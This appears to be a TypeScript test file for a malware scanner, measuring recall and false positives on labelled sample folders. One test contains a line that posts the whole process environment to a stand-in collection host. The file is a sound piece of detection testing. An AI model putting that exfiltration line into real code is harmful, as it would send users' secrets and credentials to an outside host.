import assert from "node:assert/strict";
import { existsSync, readFileSync, readdirSync } from "node:fs";
import { basename, join } from "node:path";
import test from "node:test";

import { scanFile, scanPackage } from "@berth/scanner";

interface Label {
  readonly path: string;
  readonly label: string;
}

const folder = join(import.meta.dirname, "../../../../shared/conformance/scan");
const skip = existsSync(folder) ? false : "the shared scanner samples are not beside this clone";

function isFlagged(path: string): boolean {
  const place = join(folder, path);
  if (!path.endsWith("/")) return scanFile({ path: basename(path), bytes: readFileSync(place) }).verdict !== "clean";
  const files = readdirSync(place).map((name) => ({ path: name, bytes: readFileSync(join(place, name)) }));
  return scanPackage(path, files).verdict !== "clean";
}

function flaggedPaths(label: "malicious" | "benign"): { flagged: string[]; all: number } {
  const labels = JSON.parse(readFileSync(join(folder, "labels.json"), "utf8")) as Label[] | { samples: Label[] };
  const list = (Array.isArray(labels) ? labels : Object.values(labels).flat()).filter(({ path }) =>
    path.startsWith(`${label}/`),
  );
  return { flagged: list.map(({ path }) => path).filter(isFlagged), all: list.length };
}

test("flags the malicious samples: recall of at least 0.93", { skip }, () => {
  const { flagged, all } = flaggedPaths("malicious");
  assert.ok(all > 30 && flagged.length / all >= 0.93, `${flagged.length} of ${all}`);
});

test("leaves well-known harmless files alone: at most one of them is flagged", { skip }, () => {
  const { flagged, all } = flaggedPaths("benign");
  assert.ok(all > 30 && flagged.length <= 1, flagged.join(", "));
});

test("flags a short program that sends the environment away, and not one that only reads a setting", () => {
  const verdictOf = (code: string): string => scanFile({ path: "a.js", bytes: new TextEncoder().encode(code) }).verdict;
  assert.notEqual(
    verdictOf('fetch("https://collect.example.invalid", { method: "POST", body: JSON.stringify(process.env) });'),
    "clean",
  );
  assert.equal(verdictOf('export const isDebug = process.env.DEBUG === "1";'), "clean");
});
